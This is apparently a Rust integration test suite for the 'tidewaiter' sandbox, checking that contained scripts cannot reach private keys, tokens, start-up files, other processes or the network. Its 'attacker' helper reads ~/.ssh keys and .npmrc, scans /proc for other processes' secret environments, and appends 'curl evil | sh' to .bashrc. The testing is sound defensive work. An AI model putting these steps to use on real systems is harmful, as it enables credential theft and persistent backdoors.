//! What a contained process can do, tried by a process that tries: every attack has to fail inside and to succeed
//! outside, so that a test which proves nothing fails. Real tools have to work inside.

use std::collections::BTreeMap;
use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, TcpListener, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use tidewaiter::enforce::sandbox::{
    Availability, Facts, Handoff, Profile, Reach, arguments, availability_with, bridge, variable,
};
use tidewaiter::model::{Environment, Timestamp};
use tidewaiter::policy::Policy;

use crate::support::until;

const ENGINE: &str = env!("CARGO_BIN_EXE_tidewaiter");

/// The variable that makes [`attacker`] attack.
const ATTACK: &str = "CONTAINMENT_ATTACK";

/// A home directory with a key in it, a project, and what is around them.
struct World {
    directory: tempfile::TempDir,
    available: Availability,
}

impl World {
    /// `None`, said, where the kernel cannot contain anything.
    fn new() -> Option<Self> {
        let available = availability_with(Path::new(ENGINE));
        if !available.works() {
            eprintln!("skipped: {}", available.words().join("; "));
            return None;
        }
        let world = Self { directory: tempfile::tempdir().unwrap(), available };
        for (file, text) in [
            ("home/.ssh/id_ed25519", "PRIVATE"),
            ("home/.npmrc", "//registry.npmjs.org/:_authToken=PRIVATE"),
            ("home/.bashrc", "# mine\n"),
            ("home/notes.txt", "public"),
            ("project/.git/hooks/pre-commit.sample", ""),
            ("project/.env", "PRIVATE"),
            ("project/package.json", "{}"),
            ("tmp/x", ""),
        ] {
            let path = world.path(file);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        Some(world)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.directory.path().canonicalize().unwrap().join(name)
    }

    fn environment(&self) -> Environment {
        let home = self.path("home");
        let variables = BTreeMap::from([("HOME".to_owned(), home.to_string_lossy().into_owned())]);
        Environment {
            variables,
            cwd: self.path("project"),
            home: Some(home),
            now: Timestamp::UNIX_EPOCH,
            os: "linux",
            arch: std::env::consts::ARCH,
        }
    }

    /// The profile of a package's script that may write the project.
    fn script(&self, reach: Reach, write: &[PathBuf]) -> Profile {
        self.finish(Profile::script, reach, write)
    }

    fn installer(&self, reach: Reach, write: &[PathBuf]) -> Profile {
        self.finish(Profile::installer, reach, write)
    }

    fn finish(&self, make: impl Fn(&Facts<'_>) -> Profile, reach: Reach, write: &[PathBuf]) -> Profile {
        let (environment, policy) = (self.environment(), Policy::default().sandbox);
        let project = self.path("project");
        let facts = Facts { environment: &environment, project: &project, write, reach, policy: &policy };
        let mut profile = make(&facts);
        // The test's own program cannot try namespaces; the real one did.
        profile.namespaces = self.available.namespaces.is_ok();
        profile.temporary = Some(self.path("tmp"));
        profile
    }

    /// Each way in which this kernel can contain the profile: with namespaces and without.
    fn ways(&self, profile: &Profile) -> Vec<Profile> {
        let mut ways = vec![Profile { namespaces: false, ..profile.clone() }];
        if profile.namespaces {
            ways.push(profile.clone());
        } else {
            eprintln!("without namespaces: {:?}", self.available.namespaces);
        }
        ways
    }

    /// A command in the project with this world's variables, contained or not.
    fn command(&self, profile: Option<&Profile>, program: &Path, words: &[&str]) -> Command {
        let words: Vec<std::ffi::OsString> = words.iter().map(Into::into).collect();
        let mut command = match profile {
            Some(_) => {
                let mut command = Command::new(ENGINE);
                command.args(arguments(program, &words));
                command
            }
            None => {
                let mut command = Command::new(program);
                command.args(words);
                command
            }
        };
        let path = std::env::var_os("PATH").unwrap_or_default();
        command.env_clear().env("PATH", path).env("HOME", self.path("home")).env("LANG", "C.UTF-8");
        command.env("NPM_TOKEN", "PRIVATE").env("AWS_SECRET_ACCESS_KEY", "PRIVATE");
        command.env("PIP_INDEX_URL", "https://me:PRIVATE@pypi.internal.example/simple");
        if let Some(profile) = profile {
            let (name, value) = variable(profile);
            command.env(name, value);
        }
        command.current_dir(self.path("project")).stdin(Stdio::null());
        command
    }

    fn shell(&self, profile: Option<&Profile>, script: &str) -> Output {
        self.command(profile, Path::new("/bin/sh"), &["-c", script]).output().unwrap()
    }

    /// Runs [`attacker`]; what it answered.
    fn attack(&self, profile: Option<&Profile>, attack: &str) -> Result<String, String> {
        let own = std::env::current_exe().unwrap();
        let words = ["--exact", "containment::attacker", "--nocapture", "--test-threads=1"];
        let output = self.command(profile, &own, &words).env(ATTACK, attack).output().unwrap();
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        let answer = text.lines().find_map(|line| line.split_once("ANSWER ").map(|(_, answer)| answer.to_owned()));
        let answer = answer.unwrap_or_else(|| panic!("{attack}: {text}{}", String::from_utf8_lossy(&output.stderr)));
        match answer.split_once(' ').unwrap() {
            ("got", what) => Ok(what.to_owned()),
            (_, why) => Err(why.to_owned()),
        }
    }
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

fn both(output: &Output) -> String {
    format!("{}{}{}", output.status, String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

/// Not a test of its own: what the others run inside and outside. Without [`ATTACK`] it has nothing to do.
#[test]
fn attacker() {
    let Ok(attack) = std::env::var(ATTACK) else { return };
    let answer = match perform(&attack) {
        Ok(what) => format!("ANSWER got {what}"),
        Err(why) => format!("ANSWER refused {why}"),
    };
    let mut out = std::io::stdout().lock();
    writeln!(out, "\n{answer}").unwrap();
}

fn perform(attack: &str) -> Result<String, String> {
    let words: Vec<&str> = attack.split(' ').collect();
    let home = PathBuf::from(std::env::var_os("HOME").unwrap_or_default());
    let io = |e: std::io::Error| e.to_string();
    match *words.as_slice() {
        ["tcp", address] => {
            let address = address.parse().unwrap();
            let mut stream = TcpStream::connect_timeout(&address, Duration::from_secs(20)).map_err(io)?;
            let mut text = String::new();
            stream.read_to_string(&mut text).map_err(io)?;
            Ok(text)
        }
        ["udp", address] => {
            let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).map_err(io)?;
            socket.send_to(b"\x12\x34\x01\x00\x00\x01 a name look-up", address).map_err(io)?;
            Ok("sent".to_owned())
        }
        // What is covered by something empty was not read.
        ["read", file] => std::fs::read_to_string(home.join(file))
            .map_err(io)
            .and_then(|text| if text.is_empty() { Err("empty".to_owned()) } else { Ok(text) }),
        ["write", file] => {
            let mut file = std::fs::OpenOptions::new().append(true).create(true).open(home.join(file)).map_err(io)?;
            file.write_all(b"curl evil | sh\n").map_err(io)?;
            Ok("written".to_owned())
        }
        ["ptrace", pid] => {
            let pid = nix::unistd::Pid::from_raw(pid.parse().unwrap());
            nix::sys::ptrace::attach(pid).map_err(|e| e.to_string())?;
            // It is traced by this process alone, which ends.
            Ok("attached".to_owned())
        }
        ["signal", pid] => {
            let pid = nix::unistd::Pid::from_raw(pid.parse().unwrap());
            nix::sys::signal::kill(pid, None).map_err(|e| e.to_string())?;
            Ok("reached".to_owned())
        }
        ["environment"] => {
            let secret: Vec<String> =
                std::env::vars().filter(|(_, value)| value.contains("PRIVATE")).map(|(name, _)| name).collect();
            if secret.is_empty() { Err("nothing secret in it".to_owned()) } else { Ok(secret.join(",")) }
        }
        ["neighbours"] => {
            let mine = std::process::id().to_string();
            let pids = std::fs::read_dir("/proc").map_err(io)?.flatten();
            let found = pids.filter(|e| e.file_name().to_string_lossy().bytes().all(|b| b.is_ascii_digit()));
            let read =
                found.filter(|e| e.file_name() != *mine).filter_map(|e| std::fs::read(e.path().join("environ")).ok());
            let secret = read.filter(|text| text.windows(7).any(|w| w == b"PRIVATE")).count();
            if secret == 0 { Err("no other's environment".to_owned()) } else { Ok(secret.to_string()) }
        }
        ["unix"] => std::os::unix::net::UnixListener::bind(home.join("socket")).map(|_| "bound".to_owned()).map_err(io),
        ["namespace"] => nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWUTS)
            .map(|()| "made".to_owned())
            .map_err(|e| e.to_string()),
        _ => panic!("no such attack: {attack}"),
    }
}

/// A listener that says `hello` to everyone, until the test ends.
fn greeter(address: (Ipv4Addr, u16)) -> Option<u16> {
    let listener = TcpListener::bind(address).ok()?;
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let _ = stream.and_then(|mut stream| stream.write_all(b"hello"));
        }
    });
    Some(port)
}

#[test]
fn six_attacks_fail_inside_and_succeed_outside() {
    let Some(world) = World::new() else { return };
    let gateway = greeter((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let other = greeter((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let udp = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let mut sibling = Command::new("/bin/sleep").arg("600").spawn().unwrap();
    let attacks = [
        format!("tcp 127.0.0.1:{other}"),
        format!("udp 127.0.0.1:{}", udp.local_addr().unwrap().port()),
        "read .ssh/id_ed25519".to_owned(),
        "write .bashrc".to_owned(),
        format!("ptrace {}", sibling.id()),
        "environment".to_owned(),
        "unix".to_owned(),
        "neighbours".to_owned(),
        "read .npmrc".to_owned(),
        "write new-file".to_owned(),
    ];
    let profile = world.script(Reach::Gateway { port: gateway }, &[]);
    for way in world.ways(&profile) {
        for attack in &attacks {
            let inside = world.attack(Some(&way), attack);
            assert!(inside.is_err(), "{attack} got {inside:?} with namespaces {}", way.namespaces);
        }
        assert_eq!(world.attack(Some(&way), "read notes.txt").as_deref(), Ok("public"));
        // An address that is nobody's: refused at once, not after a timeout.
        let started = Instant::now();
        assert!(world.attack(Some(&way), "tcp 192.0.2.1:443").is_err());
        assert!(started.elapsed() < Duration::from_secs(15));
    }
    assert_eq!(std::fs::read_to_string(world.path("home/.bashrc")).unwrap(), "# mine\n");
    for attack in attacks.iter().filter(|a| *a != "neighbours") {
        let outside = world.attack(None, attack);
        assert!(outside.is_ok(), "{attack} proves nothing: outside it is {outside:?}");
    }
    sibling.kill().unwrap();
    sibling.wait().unwrap();
}

#[test]
fn signals_and_namespaces_stay_inside() {
    let Some(world) = World::new() else { return };
    let mut sibling = Command::new("/bin/sleep").arg("600").spawn().unwrap();
    let signal = format!("signal {}", sibling.id());
    for way in world.ways(&world.script(Reach::Nothing, &[])) {
        assert!(world.attack(Some(&way), "namespace").is_err());
        if way.namespaces || world.available.landlock_abi >= 6 {
            assert!(world.attack(Some(&way), &signal).is_err(), "with namespaces {}", way.namespaces);
        }
    }
    assert!(world.attack(None, &signal).is_ok());
    sibling.kill().unwrap();
    sibling.wait().unwrap();
}

#[test]
fn the_gateway_is_reached_and_another_host_at_its_port_is_not() {
    let Some(world) = World::new() else { return };
    let port = greeter((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let elsewhere = greeter((Ipv4Addr::new(127, 0, 0, 2), port));
    for way in world.ways(&world.installer(Reach::Gateway { port }, &[])) {
        for attack in [format!("tcp 127.0.0.1:{port}"), format!("tcp 127.0.0.2:{port}")] {
            let mut way = way.clone();
            if way.namespaces {
                let handoff = Handoff::new().unwrap();
                way.handoff = Some(handoff.path());
                handoff.then(move |listener| bridge(&listener, port));
            }
            let answer = world.attack(Some(&way), &attack);
            if attack.contains("127.0.0.1:") {
                assert_eq!(answer.as_deref(), Ok("hello"));
            } else if way.namespaces || elsewhere.is_none() {
                assert!(answer.is_err(), "{answer:?}");
            } else {
                // What Landlock alone cannot tell apart, and what the description says of it.
                assert_eq!(answer.as_deref(), Ok("hello"));
                assert!(way.describe().iter().any(|line| line.contains("another host at that port")));
            }
        }
    }
}

#[test]
fn writes_go_where_they_may_and_nothing_that_starts_later_is_touched() {
    let Some(world) = World::new() else { return };
    let script = "echo 1 > made && mv made moved && mkdir -p a/b && echo $TMPDIR && echo 2 > $TMPDIR/t \
                  && echo hook > .git/hooks/pre-commit";
    for way in world.ways(&world.script(Reach::Nothing, &[])) {
        let output = world.shell(Some(&way), script);
        assert!(world.path("project/moved").is_file() && world.path("project/a/b").is_dir(), "{}", both(&output));
        assert_eq!(stdout(&output), world.path("tmp").to_string_lossy());
        assert!(world.path("tmp/t").is_file());
        if way.namespaces {
            assert!(!world.path("project/.git/hooks/pre-commit").exists(), "{}", both(&output));
            assert_eq!(stdout(&world.shell(Some(&way), "cat .env; mv .git .got; ls -d .git")), ".git");
            assert!(both(&world.shell(Some(&way), "chmod 777 ../home/.bashrc")).contains("Read-only"));
        }
        // For the next way.
        for made in ["project/a/b", "project/a", "project/moved", "project/.git/hooks/pre-commit", "tmp/t"] {
            let path = world.path(made);
            let _ = if path.is_dir() { std::fs::remove_dir(path) } else { std::fs::remove_file(path) };
        }
    }
    // The home directory as the project: its start-up files stay as they are.
    let home = world.path("home");
    for way in world.ways(&world.installer(Reach::Nothing, &[home])) {
        for script in
            ["echo x >> ~/.bashrc", "mv ~/.bashrc ~/old", "echo x > ~/.ssh/authorized_keys", "cat ~/.ssh/id_ed25519"]
        {
            let output = world.shell(Some(&way), script);
            assert!(!output.status.success(), "{script}: {}", both(&output));
        }
        if way.namespaces {
            assert!(world.shell(Some(&way), "mkdir ~/node_modules && echo 1 > ~/node_modules/x").status.success());
        }
    }
    assert_eq!(std::fs::read_to_string(world.path("home/.bashrc")).unwrap(), "# mine\n");
    // Named as the target, such a place is written.
    let bin = world.path("home/.local/bin");
    for way in world.ways(&world.installer(Reach::Nothing, std::slice::from_ref(&bin))) {
        let output = world.shell(Some(&way), "echo 1 > ~/.local/bin/tool");
        assert!(output.status.success(), "{}", both(&output));
    }
}

#[test]
fn an_installer_keeps_its_configuration_and_a_script_does_not() {
    let Some(world) = World::new() else { return };
    for way in world.ways(&world.installer(Reach::Nothing, &[])) {
        assert!(world.attack(Some(&way), "read .npmrc").is_ok());
        assert!(world.attack(Some(&way), "read .ssh/id_ed25519").is_err());
    }
}

#[test]
fn exit_status_and_streams_are_the_programs_own() {
    let Some(world) = World::new() else { return };
    for way in world.ways(&world.script(Reach::Nothing, &[])) {
        for (script, status) in [("exit 7", 7), ("kill -TERM $$", 143), ("kill -KILL $$", 137), ("true", 0)] {
            let output = world.shell(Some(&way), script);
            use std::os::unix::process::ExitStatusExt as _;
            let seen = output.status.code().or_else(|| output.status.signal().map(|s| 128 + s));
            assert_eq!(seen, Some(status), "{script}: {}", both(&output));
        }
        let output = world.shell(Some(&way), "echo out; echo err >&2");
        assert_eq!((stdout(&output).as_str(), String::from_utf8_lossy(&output.stderr).trim()), ("out", "err"));
        let missing = world.command(Some(&way), Path::new("/nowhere/tool"), &[]).output().unwrap();
        assert_eq!(missing.status.code(), Some(125));
        assert!(both(&missing).contains("/nowhere/tool"), "{}", both(&missing));
    }
}

#[test]
fn without_a_profile_nothing_is_run() {
    for words in [&["__contain"][..], &["__contain", "--", "/bin/echo", "ran"], &["__contain", "/bin/echo", "ran"]] {
        for profile in [None, Some("{}"), Some("not JSON")] {
            let mut command = Command::new(ENGINE);
            command.args(words).env_remove("TIDEWAITER_CONTAIN");
            if let Some(text) = profile {
                command.env("TIDEWAITER_CONTAIN", text);
            }
            let output = command.output().unwrap();
            assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(125), ""), "{words:?} {profile:?}");
        }
    }
}

#[test]
fn a_sandbox_in_a_sandbox_works_and_needs_no_namespaces() {
    let Some(world) = World::new() else { return };
    let inner = Profile { namespaces: false, gate: None, ..world.script(Reach::Nothing, &[]) };
    let (name, value) = variable(&inner);
    for way in world.ways(&world.script(Reach::Nothing, &[])) {
        let script = format!("{name}='{value}' {ENGINE} __contain -- /bin/sh -c 'echo inside && echo 1 > nested'");
        let output = world.shell(Some(&way), &script);
        assert_eq!(stdout(&output), "inside", "{}", both(&output));
        assert!(world.path("project/nested").is_file());
    }
}

/// Whether a process with this text among its arguments is there.
fn running(text: &str) -> bool {
    let pids = std::fs::read_dir("/proc").unwrap().flatten();
    pids.filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
        .any(|line| line.split(|b| *b == 0).any(|word| word == text.as_bytes()))
}

#[test]
fn nothing_outlives_a_killed_run() {
    let Some(world) = World::new() else { return };
    for way in world.ways(&world.script(Reach::Nothing, &[])) {
        // A number of seconds that nobody else sleeps for.
        let mark = format!("8640{}.{}", u8::from(way.namespaces), std::process::id());
        let script = if way.namespaces {
            format!("(setsid sleep {mark} >/dev/null 2>&1 &) ; exec sleep {mark}")
        } else {
            format!("exec sleep {mark}")
        };
        let command = &mut world.command(Some(&way), Path::new("/bin/sh"), &["-c", &script]);
        let mut child = command.stdout(Stdio::null()).spawn().unwrap();
        assert!(until(|| running(&mark)), "it never started");
        child.kill().unwrap();
        child.wait().unwrap();
        assert!(until(|| !running(&mark)), "it is still there, with namespaces {}", way.namespaces);
    }
}

/// The absolute path of a program, or `None` after saying so.
fn tool(name: &str) -> Option<PathBuf> {
    let found = std::env::split_paths(&std::env::var_os("PATH")?).map(|dir| dir.join(name)).find(|path| path.is_file());
    if found.is_none() {
        eprintln!("skipped: no {name} here");
    }
    found
}

#[test]
fn npm_installs_and_runs_scripts_inside() {
    let Some(world) = World::new() else { return };
    let Some(npm) = tool("npm").filter(|_| tool("node").is_some()) else { return };
    let manifest = r#"{"name":"app","version":"1.0.0","dependencies":{"dep":"file:dep"},
        "scripts":{"install":"node -e \"require('fs').writeFileSync('ran', require('child_process').execSync('echo '+require('dep')))\""}}"#;
    std::fs::create_dir_all(world.path("project/dep")).unwrap();
    std::fs::write(world.path("project/package.json"), manifest).unwrap();
    std::fs::write(world.path("project/dep/package.json"), r#"{"name":"dep","version":"1.0.0"}"#).unwrap();
    std::fs::write(world.path("project/dep/index.js"), "module.exports = 42").unwrap();
    let cache = world.path("home/.npm");
    for way in world.ways(&world.installer(Reach::Nothing, &[cache])) {
        for words in [&["install", "--offline", "--no-audit", "--no-fund"][..], &["ci", "--offline", "--no-audit"]] {
            let output = world.command(Some(&way), &npm, words).output().unwrap();
            assert!(output.status.success(), "{words:?} {}", both(&output));
            assert_eq!(std::fs::read_to_string(world.path("project/ran")).unwrap().trim(), "42");
            std::fs::remove_file(world.path("project/ran")).unwrap();
        }
    }
}

#[test]
fn pip_installs_inside() {
    let Some(world) = World::new() else { return };
    let Some(python) = tool("python3") else { return };
    // A version manager's link needs a home directory; what it leads to does not.
    let real = Command::new(python).args(["-c", "import sys, pip; print(sys.executable)"]).output().unwrap();
    if !real.status.success() {
        eprintln!("skipped: no pip here");
        return;
    }
    let python = PathBuf::from(stdout(&real));
    let wheel = world.path("project/toy-1.0-py3-none-any.whl");
    let mut zip = zip::ZipWriter::new(std::fs::File::create(&wheel).unwrap());
    for (name, text) in [
        ("toy.py", "answer = 42\n"),
        ("toy-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: toy\nVersion: 1.0\n"),
        ("toy-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
        ("toy-1.0.dist-info/RECORD", ""),
    ] {
        zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap();
    for way in world.ways(&world.installer(Reach::Nothing, &[])) {
        let wheel = wheel.to_string_lossy();
        let words = ["-m", "pip", "install", "--no-index", "--no-cache-dir", "--upgrade", "--target", "site", &wheel];
        let output = world.command(Some(&way), &python, &words).output().unwrap();
        assert!(output.status.success(), "{}", both(&output));
        let words = ["-c", "import sys; sys.path.insert(0, 'site'); import toy; print(toy.answer)"];
        assert_eq!(stdout(&world.command(Some(&way), &python, &words).output().unwrap()), "42");
    }
}

#[test]
fn cargo_builds_and_its_build_script_is_contained() {
    let Some(world) = World::new() else { return };
    let Some(cargo) = std::env::var_os("CARGO").map(PathBuf::from).filter(|path| path.is_file()) else { return };
    let build = r#"fn main() {
        let home = std::env::var("HOME").unwrap();
        assert!(std::fs::read(format!("{home}/.ssh/id_ed25519")).is_err(), "the key was read");
        assert!(std::env::var("AWS_SECRET_ACCESS_KEY").is_err(), "the secret was there");
        println!("cargo::rustc-env=BUILT=yes");
    }"#;
    for (file, text) in [
        ("Cargo.toml", "[package]\nname = \"toy\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[workspace]\n"),
        ("build.rs", build),
        ("src/main.rs", "fn main() { println!(\"built: {}\", env!(\"BUILT\")); }"),
    ] {
        std::fs::create_dir_all(world.path("project/src")).unwrap();
        std::fs::write(world.path("project").join(file), text).unwrap();
    }
    let rustc = cargo.with_file_name("rustc");
    for way in world.ways(&world.script(Reach::Nothing, &[world.path("home/.cargo")])) {
        let _ = std::fs::remove_dir_all(world.path("project/target"));
        let mut command = world.command(Some(&way), &cargo, &["run", "--offline", "--quiet"]);
        let output = command.env("RUSTC", &rustc).output().unwrap();
        assert_eq!(stdout(&output), "built: yes", "{}", both(&output));
    }
}

#[test]
fn a_c_compiler_works_inside() {
    let Some(world) = World::new() else { return };
    let Some(cc) = tool("cc") else { return };
    std::fs::write(world.path("project/a.c"), "int main(void) { return 42; }").unwrap();
    for way in world.ways(&world.script(Reach::Nothing, &[])) {
        let output = world.command(Some(&way), &cc, &["a.c", "-o", "a.out"]).output().unwrap();
        assert!(output.status.success(), "{}", both(&output));
        assert_eq!(world.command(Some(&way), &world.path("project/a.out"), &[]).status().unwrap().code(), Some(42));
    }
}

#[test]
fn it_says_what_it_does_and_what_would_allow_more() {
    let Some(world) = World::new() else { return };
    let profile = world.script(Reach::Gateway { port: 4873 }, &[]);
    let words = profile.describe().join("\n");
    for part in ["127.0.0.1:4873", "port 4873"] {
        if words.contains(part) {
            assert!(profile.hint().contains("[sandbox] write = ["));
            assert!(words.contains("writes: ") && words.contains("processes: "), "{words}");
            return;
        }
    }
    panic!("{words}");
}
